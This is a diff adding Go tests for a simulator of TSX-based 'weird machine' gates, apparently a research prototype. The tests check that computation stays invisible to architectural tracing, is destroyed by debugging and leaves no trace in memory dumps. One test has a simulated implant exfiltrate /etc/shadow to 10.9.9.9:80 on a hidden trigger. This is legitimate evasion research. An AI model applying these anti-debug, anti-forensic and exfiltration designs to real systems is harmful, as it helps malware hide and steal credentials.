@@ -1,0 +1,262 @@
+package analyzer
+
+import (
+	"testing"
+
+	"uwm/internal/core"
+	"uwm/internal/otp"
+	"uwm/internal/trace"
+	"uwm/internal/wmapt"
+)
+
+// TestTSXGateArchitecturallyInvisible proves the paper's central claim
+// inside the model: a TSX weird gate computes AND while the complete
+// architectural evidence contains no AND instruction, no write of the
+// result, and — for the aborted transaction — nothing between XBEGIN
+// and the abort handler.
+func TestTSXGateArchitecturallyInvisible(t *testing.T) {
+	m := core.MustNewMachine(core.Options{Seed: 21})
+	a := Attach(m, 0)
+	g, err := core.NewTSXAnd(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	a.Reset()
+	out, err := g.Run(1, 1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if out[0] != 1 {
+		t.Fatalf("AND(1,1) = %d", out[0])
+	}
+
+	if a.ExecutedOpcode("and") {
+		t.Error("architectural AND instruction visible in the evidence")
+	}
+	begins, _, aborts := a.TxSummary()
+	if begins == 0 || aborts == 0 {
+		t.Fatalf("expected aborted transactions in evidence, got begins=%d aborts=%d", begins, aborts)
+	}
+	// The fire transaction's body (the div, the load chain) must not
+	// appear: all the analyzer sees is begin followed by the handler.
+	if a.ExecutedOpcode("div") {
+		t.Error("the faulting div inside the aborted transaction leaked into the evidence")
+	}
+	if a.MicroEventCount() == 0 {
+		t.Error("expected invisible microarchitectural events behind the computation")
+	}
+}
+
+// TestDebuggerDestroysGate checks the anti-debug property: attaching
+// the observer aborts every transactional region, collapsing gate
+// outputs to 0 (§4: observing the read destroys the value).
+func TestDebuggerDestroysGate(t *testing.T) {
+	m := core.MustNewMachine(core.Options{Seed: 22})
+	a := Attach(m, 0)
+	g, err := core.NewTSXAnd(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	out, err := g.Run(1, 1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if out[0] != 1 {
+		t.Fatalf("undebugged AND(1,1) = %d", out[0])
+	}
+
+	a.Observe(true)
+	out, err = g.Run(1, 1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if out[0] != 0 {
+		t.Errorf("debugged AND(1,1) = %d; observation should destroy the value", out[0])
+	}
+	if m.CPU().Stats().ObservedAborts == 0 {
+		t.Error("no observation-forced aborts recorded")
+	}
+
+	a.Observe(false)
+	out, err = g.Run(1, 1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if out[0] != 1 {
+		t.Errorf("post-debug AND(1,1) = %d; gate should recover", out[0])
+	}
+}
+
+// TestAPTPassivePhaseLeaksNothing runs the weird obfuscation system
+// under full architectural observation through a sequence of wrong
+// triggers and verifies: the environment is untouched, no architectural
+// XOR instruction ever executes (despite thousands of XOR gate
+// operations), and the AES key bytes never appear in the evidence.
+func TestAPTPassivePhaseLeaksNothing(t *testing.T) {
+	if testing.Short() {
+		t.Skip("APT experiment is slow")
+	}
+	env := wmapt.NewEnv()
+	apt, err := wmapt.New(env, wmapt.Options{Seed: 33, EvalMultiple: 2})
+	if err != nil {
+		t.Fatal(err)
+	}
+	a := Attach(apt.Machine(), 0)
+
+	pad, err := apt.Install(wmapt.ExfilShadow{Path: "/etc/shadow", Dest: "10.9.9.9:80"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	before := env.Snapshot()
+
+	// Wrong triggers: flip one bit of the real pad.
+	wrong := pad
+	wrong[0] ^= 1
+	a.Reset()
+	for i := 0; i < 5; i++ {
+		res, err := apt.HandlePing(wrong)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if res != nil {
+			t.Fatal("payload fired on a wrong trigger")
+		}
+	}
+
+	if env.Snapshot() != before {
+		t.Error("environment changed during passive phase")
+	}
+	if a.ExecutedOpcode("xor") {
+		t.Error("architectural XOR instruction in evidence; the OTP decode must be weird")
+	}
+	if apt.Triggered() {
+		t.Error("APT claims triggered")
+	}
+
+	// Deliver the real trigger until the payload fires.
+	fired := false
+	for i := 0; i < 500 && !fired; i++ {
+		res, err := apt.HandlePing(pad)
+		if err != nil {
+			t.Fatal(err)
+		}
+		fired = res != nil
+	}
+	if !fired {
+		t.Fatal("correct trigger never fired")
+	}
+	if len(env.Exfiltrated["10.9.9.9:80"]) == 0 {
+		t.Error("payload did not exfiltrate the shadow file")
+	}
+}
+
+// TestAbortedTxnEventsDropped checks the trace plumbing directly:
+// architectural events inside an aborted transaction never reach the
+// recorder, while committed transactions flush theirs.
+func TestAbortedTxnEventsDropped(t *testing.T) {
+	m := core.MustNewMachine(core.Options{Seed: 44})
+	a := Attach(m, 0)
+	g, err := core.NewTSXAssign(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	a.Reset()
+	if err := g.Prep(); err != nil { // committed run, no transaction
+		t.Fatal(err)
+	}
+	nonTxEvents := len(a.Events())
+	if nonTxEvents == 0 {
+		t.Fatal("committed run produced no architectural events")
+	}
+	a.Reset()
+	if err := g.Fire(); err != nil { // aborting transaction
+		t.Fatal(err)
+	}
+	for _, e := range a.Events() {
+		if e.Kind == trace.KindCommit && e.Text != "xbegin h0" && e.Text != "halt" {
+			t.Errorf("unexpected committed instruction from aborted region: %q", e.Text)
+		}
+	}
+}
+
+// TestReportRendering sanity-checks the forensic summary.
+func TestReportRendering(t *testing.T) {
+	m := core.MustNewMachine(core.Options{Seed: 55})
+	a := Attach(m, 0)
+	g, err := core.NewTSXOr(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := g.Run(1, 0); err != nil {
+		t.Fatal(err)
+	}
+	if rep := a.Report(); rep == "" {
+		t.Error("empty report")
+	}
+	var p otp.Pad
+	if p.PingPattern() == "" {
+		t.Error("unreachable; keeps otp imported for the doc example")
+	}
+}
+
+// TestForensicsSeeNoIntermediateState is §2.1's anti-forensics claim:
+// a weird XOR computes over 160 bits while the simulated machine's
+// memory image is bit-for-bit unchanged — the working state lives only
+// in microarchitectural components a memory dump cannot capture.
+func TestForensicsSeeNoIntermediateState(t *testing.T) {
+	m := core.MustNewMachine(core.Options{Seed: 81})
+	g, err := core.NewTSXXor(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	before := m.Mem().Snapshot()
+	for _, in := range [][2]int{{0, 1}, {1, 1}, {1, 0}} {
+		out, err := g.Run(in[0], in[1])
+		if err != nil {
+			t.Fatal(err)
+		}
+		if out[0] != in[0]^in[1] {
+			t.Fatalf("xor%v = %d", in, out[0])
+		}
+	}
+	after := m.Mem().Snapshot()
+	if len(before) != len(after) {
+		t.Fatalf("memory image changed size: %d → %d words", len(before), len(after))
+	}
+	for addr, v := range before {
+		if after[addr] != v {
+			t.Errorf("memory word %#x changed %#x → %#x during weird computation",
+				uint64(addr), v, after[addr])
+		}
+	}
+}
+
+// TestAnalyzerValueHelpers covers the evidence-inspection surface.
+func TestAnalyzerValueHelpers(t *testing.T) {
+	m := core.MustNewMachine(core.Options{Seed: 82})
+	a := Attach(m, 0)
+	// Write a recognizable value architecturally via a register setter
+	// program (the calibration probe writes registers too, but use a
+	// fresh marker).
+	m.CPU().SetReg(0, 0)
+	g, err := core.NewTSXAssign(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	a.Reset()
+	if _, err := g.Run(1); err != nil {
+		t.Fatal(err)
+	}
+	if !a.SawBytes(nil) {
+		t.Error("empty needle should trivially match")
+	}
+	if a.SawBytes([]byte{0xDE, 0xAD, 0xBE, 0xEF, 0x01, 0x02, 0x03, 0x99}) {
+		t.Error("implausible needle matched")
+	}
+	if a.SawValue(0xFEEDFACE_00000000) {
+		t.Error("implausible value matched")
+	}
+	if len(a.Values()) == 0 {
+		t.Error("no values collected from a full gate run")
+	}
+}
